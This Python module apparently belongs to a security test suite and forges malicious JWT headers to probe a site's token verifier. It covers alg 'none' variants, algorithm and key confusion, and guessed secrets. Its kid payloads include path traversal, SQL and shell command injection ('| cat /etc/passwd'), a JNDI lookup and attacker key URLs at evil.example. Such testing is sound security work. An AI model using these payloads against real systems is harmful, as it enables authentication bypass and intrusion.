"""Attacks on the header: another algorithm, another key, another meaning.  A good signature, where there is one at all."""

from __future__ import annotations

import hmac
import itertools
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import get_default_algorithms
from support.forge import DIGESTS, b64

from attacks.loot import NO_TOKEN, Attack, Forge, Loot, attacks, compact, under, under_raw

_THIEF: Final = ec.generate_private_key(ec.SECP256R1())
_JWK: Final = get_default_algorithms()["ES256"].to_jwk(_THIEF.public_key(), as_dict=True)
_EVIL: Final = "https://evil.example/keys"
_SPELLINGS: Final = ["".join(letters) for letters in itertools.product("nN", "oO", "nN", "eE")]


def _unsigned(algorithm: object) -> Forge:
    return lambda loot: under(alg=algorithm)(loot).rpartition(".")[0] + "."


def _of_another(algorithm: str) -> Forge:
    """Signed as the site signs, under the name of an algorithm that is not the site's."""
    return lambda loot: under(alg=algorithm if algorithm != loot.header["alg"] else "HS256")(loot)


def _none_with_a_signature(loot: Loot) -> str:
    return under(alg="none")(loot).rpartition(".")[0] + "." + loot.segments[2]


def _by_the_thief(**fields: Any) -> Forge:
    """Signed with a key pair of the attacker's own, which the header names."""

    def forge(loot: Loot) -> str:
        message = f"{b64(compact(loot.header | {'alg': 'ES256'} | fields))}.{loot.segments[1]}"
        algorithm = get_default_algorithms()["ES256"]
        return f"{message}.{b64(algorithm.sign(message.encode(), _THIEF))}"

    return forge


def _keyed(encoding: str, algorithm: str) -> Forge:
    """HMAC with what everybody knows of a public key, for who verifies with "the key" whatever the header says."""

    def forge(loot: Loot) -> str:
        message = f"{b64(compact(loot.header | {'alg': algorithm}))}.{loot.segments[1]}"
        return f"{message}.{b64(hmac.digest(loot.publics[encoding], message.encode(), DIGESTS[algorithm]))}"

    return forge


def _guessed(secret: bytes) -> Forge:
    """Under our own header, with a secret that somebody might have left in."""
    return lambda loot: (
        f"{loot.segments[0]}.{loot.segments[1]}." + b64(hmac.digest(secret, ".".join(loot.segments[:2]).encode(), "sha256"))
    )


def _with_kid(kid: object, secret: bytes = b"") -> Forge:
    """HS256 with the secret that the attacker's `kid` is to lead to: an empty file, NULL, his own page."""

    def forge(loot: Loot) -> str:
        message = f"{b64(compact(loot.header | {'alg': 'HS256', 'kid': kid}))}.{loot.segments[1]}"
        return f"{message}.{b64(hmac.digest(secret, message.encode(), 'sha256'))}"

    return forge


def _unencoded(loot: Loot) -> str:
    """RFC 7797: the payload as it is, and signed so."""
    header = b64(compact(loot.header | {"b64": False, "crit": ["b64"]}))
    return loot.signed(header, compact(loot.claims).decode().replace(".", ""))


NONE: Final = [
    *attacks("alg none", {spelling: _unsigned(spelling) for spelling in _SPELLINGS}),
    *attacks("alg none", {
        "with the genuine signature": _none_with_a_signature,
        "well signed all the same": under(alg="none"),
        "a blank before": _unsigned(" none"),
        "a blank after": _unsigned("none "),
        "NUL after": _unsigned("none\0"),
        "with a Greek omicron": _unsigned("n\u03bfne"),
        "full-width": _unsigned("\uff4e\uff4f\uff4e\uff45"),
        "empty": _unsigned(""),
        "null": _unsigned(None),
        "false": _unsigned(False),
        "in a list": _unsigned(["none"]),
        "left out": under(without="alg"),
        "of an unknown key": lambda loot: under(alg="none", kid="gone")(loot).rpartition(".")[0] + ".",
    }),
]  # fmt: skip
CONFUSION: Final = [
    *attacks("another algorithm, well signed", {
        name: _of_another(name)
        for name in (
            "HS384", "HS512", "RS256", "PS256", "ES384", "ES256K", "EdDSA", "Ed25519", "HS256 ", "hs256", "HMAC", "dir"
        )
    }),
    *attacks("a public key as the secret", {
        f"{encoding}, {algorithm}": _keyed(encoding, algorithm)
        for encoding in ("PEM", "PEM without its last line end", "DER", "JWK") for algorithm in ("HS256", "HS512")
    }),
    *attacks("a guessed secret", {
        "none": _guessed(b""), "NUL": _guessed(b"\0"), "32 times NUL": _guessed(bytes(32)), "secret": _guessed(b"secret"),
        "null": _guessed(b"null"), "None": _guessed(b"None"), "the word of the docs": _guessed(b"your-256-bit-secret"),
    }),
]  # fmt: skip
# A name that we do not have is that of a key which was taken out: the access token is one of old, and counts as absent.
_KIDS: Final = {
    "an empty file": "../../../../../../dev/null",
    "a file of known content": "/proc/sys/kernel/randomize_va_space",
    "a path of Windows": "..\\..\\boot.ini",
    "our own key after a path": "/keys/k",
    "SQL that yields a secret": "x' UNION SELECT 'secret' --",
    "SQL that is always true": "' OR '1'='1",
    "an address": "https://evil.example/key.pem",
    "an address of the cloud's": "http://169.254.169.254/latest/meta-data/",
    "a command": "k; sleep 10",
    "a command in a pipe": "| cat /etc/passwd",
    "a template": "${jndi:ldap://evil.example/a}",
    "NUL": "k\0",
    "a line end": "k\r\nX-Role: admin",
    "a Redis key": "tg:s:*",
    "an attribute": "__class__",
    "a blank": " ",
    "nothing": "",
    "an emoji": "\U0001f511",
    "half a surrogate pair": "\ud800",
}
KIDS: Final = [
    *attacks("kid", {name: _with_kid(kid) for name, kid in _KIDS.items()}, access=NO_TOKEN),
    *attacks("kid", {
        "of ours, without a secret": lambda loot: _with_kid(loot.header["kid"])(loot),
        "very long": _with_kid("k" * 10_000),
        "long, and a path": _with_kid("../" * 100),
        "null": _with_kid(None),
        "a number": _with_kid(0),
        "true": _with_kid(True),
        "a list of ours": lambda loot: _with_kid([loot.header["kid"]])(loot),
        "an object": _with_kid({"$ne": None}),
        "left out": under(without="kid"),
    }),
]  # fmt: skip
EMBEDDED: Final = attacks("a key of his own", {
    "jwk": _by_the_thief(jwk=_JWK),
    "jwk, our kid in it": lambda loot: _by_the_thief(jwk=_JWK | {"kid": loot.header["kid"]})(loot),
    "jwk, unknown kid": _by_the_thief(jwk=_JWK, kid="thief"),
    "jwk of a secret": under(jwk={"kty": "oct", "k": b64(b"a secret of more than thirty-two bytes")}),
    "jku": _by_the_thief(jku=_EVIL, kid="thief"),
    "jku of our own site with a redirect": _by_the_thief(jku="https://app.example/go?to=evil.example", kid="thief"),
    "jku of a file": _by_the_thief(jku="file:///dev/null", kid="thief"),
    "x5u": _by_the_thief(x5u=_EVIL),
    "x5c": _by_the_thief(x5c=["MIIB"]),
    "x5t": _by_the_thief(x5t="AAAA"),
    "iss in the header": _by_the_thief(iss="https://evil.example", kid="thief"),
    "jku, well signed": under(jku=_EVIL),
    "x5u, well signed": under(x5u=_EVIL),
    "x5c, well signed": under(x5c=["MIIB"]),
})  # fmt: skip
MEANING: Final = attacks("header", {
    "crit of a claim": under(crit=["exp"]),
    "crit of something new": under(crit=["x"], x=True),
    "crit empty": under(crit=[]),
    "crit null": under(crit=None),
    "b64 false": under(b64=False),
    "b64 false, and done": _unencoded,
    "b64 true": under(b64=True),
    "cty JWT": under(cty="JWT"),
    "zip": under(zip="DEF"),
    "enc": under(enc="A256GCM"),
    "epk": under(epk=_JWK),
    "exp in it": under(exp=1),
    "sub in it": under(sub="admin"),
    "alg twice, none first": under_raw(lambda raw: b'{"alg":"none",' + raw[1:]),
    "alg twice, none last": under_raw(lambda raw: raw[:-1] + b',"alg":"none"}'),
    "kid twice": under_raw(lambda raw: b'{"kid":"../dev/null",' + raw[1:]),
    "typ twice": under_raw(lambda raw: b'{"typ":"JWT",' + raw[1:]),
    "a blank": under_raw(lambda raw: raw.replace(b":", b": ")),
    "a line end": under_raw(lambda raw: raw + b"\n"),
    "something behind it": under_raw(lambda raw: raw + b"{}"),
    "another order": lambda loot: loot.signed(b64(compact(dict(reversed(loot.header.items())))), loot.segments[1]),
    "an escaped name": under_raw(lambda raw: raw.replace(b'"alg"', b'"\\u0061lg"')),
    "a BOM": under_raw(lambda raw: b"\xef\xbb\xbf" + raw),
    "UTF-16": under_raw(lambda raw: raw.decode().encode("utf-16")),
    "UTF-7": under_raw(lambda raw: raw.decode().encode("utf-7")),
    "no UTF-8": under_raw(lambda raw: raw.replace(b"kid", b"k\xc0\xafd")),
    "NaN": under_raw(lambda raw: raw[:-1] + b',"x":NaN}'),
    "cut": under_raw(lambda raw: raw[:-1]),
    "a list": under_raw(lambda raw: b"[" + raw + b"]"),
    "a string": under_raw(lambda raw: compact(raw.decode())),
    "null": under_raw(lambda raw: b"null"),
    "no JSON": under_raw(lambda raw: b"typ"),
    "a bomb of lists": under_raw(lambda raw: b"[" * 180),
    "a long bomb of lists": under_raw(lambda raw: b"[" * 9_000),
    "prototypes": under_raw(lambda raw: raw[:-1] + b',"__proto__":{"alg":"none"}}'),
})  # fmt: skip
KINDS: Final = [
    *attacks("typ", {
        "left out": under(without="typ"), "JWT": under(typ="JWT"), "jwt": under(typ="jwt"), "null": under(typ=None),
        "empty": under(typ=""), "in a list": lambda loot: under(typ=[loot.header["typ"]])(loot),
        "in upper case": lambda loot: under(typ=loot.header["typ"].upper())(loot),
        "with its media type": lambda loot: under(typ="application/" + loot.header["typ"])(loot),
        "dpop+jwt": under(typ="dpop+jwt"), "logout+jwt": under(typ="logout+jwt"),
        "of a kind that has not been": under(typ="xx+jwt"),
    }),
    *(
        # In the place of their own kind these are genuine, and no attack.
        Attack(name=f"typ: {kind} token in another's place", forge=forge, **{kind: "", "asks": False})
        for kind, forge in {
            "access": lambda loot: loot.kinds["access"],
            "refresh": lambda loot: loot.kinds["refresh"],
            "fresh": lambda loot: loot.kinds["fresh"],
        }.items()
    ),
    Attack(name="typ: ours over another kind's payload", forge=lambda loot: loot.signed(
        loot.segments[0], loot.kinds["fresh"].split(".")[1]), fresh=""),
]  # fmt: skip
HEADERS: Final = [*NONE, *CONFUSION, *KIDS, *EMBEDDED, *MEANING, *KINDS]
